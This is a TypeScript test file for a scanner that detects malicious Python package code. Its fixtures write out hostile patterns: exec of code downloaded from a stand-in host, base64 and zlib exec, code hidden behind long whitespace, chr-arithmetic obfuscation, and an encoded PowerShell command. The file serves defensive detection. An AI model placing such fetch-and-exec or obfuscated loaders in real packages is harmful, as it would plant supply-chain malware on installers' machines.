import assert from 'node:assert/strict';
import { test } from 'node:test';
import { record } from '../detect/_test-helpers.ts';
import { EMPTY_ALLOWLIST } from '../detect/allowlist.ts';
import { evaluateRecord } from '../detect/evaluate-record.ts';
import { scanStaticSignals } from './scan-static-signals.ts';

function rules(path: string, text: string): string[] {
  return scanStaticSignals([{ path, text }])
    .map((f) => f.rule)
    .sort();
}

function scoreOf(path: string, text: string): { level: string; score: number } {
  return evaluateRecord(record({}), {
    allowlist: EMPTY_ALLOWLIST,
    staticFindings: scanStaticSignals([{ path, text }]),
  });
}

const BENIGN_NATIVE = `import os
from setuptools import Extension, setup
from setuptools.command.build_ext import build_ext

here = os.path.abspath(os.path.dirname(__file__))
with open(os.path.join(here, "README.md")) as f:
    long_description = f.read()

class BuildExt(build_ext):
    def build_extensions(self):
        self.compiler.compiler_so.append("-O3")
        super().build_extensions()

setup(
    name="fastthing",
    version="1.2.3",
    url="https://github.com/example/fastthing",
    long_description=long_description,
    cmdclass={"build_ext": BuildExt},
    ext_modules=[Extension("fastthing._speed", ["src/speed.c"])],
)
`;

test('a benign setup.py with cmdclass build_ext scores low and stays clean', () => {
  assert.deepEqual(rules('fastthing-1.2.3/setup.py', BENIGN_NATIVE), ['static.install-hook']);
  assert.equal(scanStaticSignals([{ path: 'setup.py', text: BENIGN_NATIVE }])[0]?.severity, 'low');
  assert.equal(scoreOf('setup.py', BENIGN_NATIVE).level, 'clean');
});

test('exec of base64-decoded data is high, with file:line evidence', () => {
  const text =
    'import base64\nfrom setuptools import setup\nexec(base64.b64decode("cHJpbnQoMSk="))\nsetup(name="x")\n';
  const findings = scanStaticSignals([{ path: 'x-1/setup.py', text }]);
  const decoded = findings.find((f) => f.rule === 'static.exec-decoded');
  assert.equal(decoded?.severity, 'high');
  assert.equal(decoded?.evidence[0]?.pointer, 'x-1/setup.py:3');
  assert.match(decoded?.evidence[0]?.text ?? '', /exec\(base64\.b64decode/);
  assert.ok(findings.some((f) => f.rule === 'static.setup-code'));
});

test('exec of downloaded code is critical (malicious on its own); exec(open(version).read()) is not', () => {
  const fetched = 'import urllib.request\nexec(urllib.request.urlopen("http://x.example/p").read())\n';
  assert.ok(rules('pkg/__init__.py', fetched).includes('static.exec-downloaded'));
  assert.equal(scoreOf('pkg/__init__.py', fetched).level, 'malicious');
  const version = 'exec(open("pkg/_version.py").read())\nsetup(name="x")\n';
  assert.deepEqual(rules('setup.py', version), []);
});

test('code hidden after a long run of whitespace is found and shown', () => {
  const text = `import os${' '.repeat(200)};exec(__import__("zlib").decompress(b"x"))\n`;
  const findings = scanStaticSignals([{ path: 'pkg/__init__.py', text }]);
  const hidden = findings.find((f) => f.rule === 'static.whitespace-hidden');
  assert.ok(hidden);
  assert.match(hidden.evidence[0]?.text ?? '', /hidden: ;exec/);
  // Ordinary indentation and alignment do not count.
  assert.deepEqual(rules('pkg/x.py', 'def f():\n        return 1  # aligned comment\n'), []);
});

test('the demo-style obfuscation (chr arithmetic, getattr(__import__), integer array) is flagged', () => {
  const numbers = Array.from({ length: 150 }, (_, i) => String(150 + i)).join(', ');
  const text = [
    'from setuptools import setup',
    `_q = [${numbers}]`,
    '_w = lambda s: "".join(chr((v - 17) // 3) for v in s)',
    '_x = getattr(__import__(_w([311, 368])), _w([320, 377]))',
    '_x(_w(_q))',
    'setup(name="x")',
  ].join('\n');
  const found = rules('setup.py', text);
  for (const rule of ['static.encoded-blob', 'static.obfuscated-call', 'static.setup-code'])
    assert.ok(found.includes(rule), rule);
  assert.notEqual(scoreOf('setup.py', text).level, 'clean');
});

test('powershell -EncodedCommand, IPs and URLs in setup code', () => {
  const text =
    'import os\nos.system("powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA")\nHOST = "45.13.2.9"\nU = "http://x.example/a"\nsetup(url="https://home.example")\n';
  const findings = scanStaticSignals([{ path: 'setup.py', text }]);
  assert.equal(findings.find((f) => f.rule === 'static.powershell-encoded')?.severity, 'high');
  const urls = findings.find((f) => f.rule === 'static.url-in-setup');
  assert.equal(urls?.severity, 'medium');
  assert.deepEqual(
    urls?.evidence.map((e) => e.pointer),
    ['setup.py:3', 'setup.py:4'],
  );
});

test('a long base64 blob is found; a long identifier-free prose string is not a blob', () => {
  const blob = Buffer.from(Array.from({ length: 300 }, (_, i) => (i * 37) % 256)).toString('base64');
  assert.ok(rules('pkg/__init__.py', `DATA = "${blob}"\n`).includes('static.encoded-blob'));
  assert.deepEqual(rules('pkg/__init__.py', `DOC = "${'lorem ipsum dolor sit amet '.repeat(10)}"\n`), []);
});
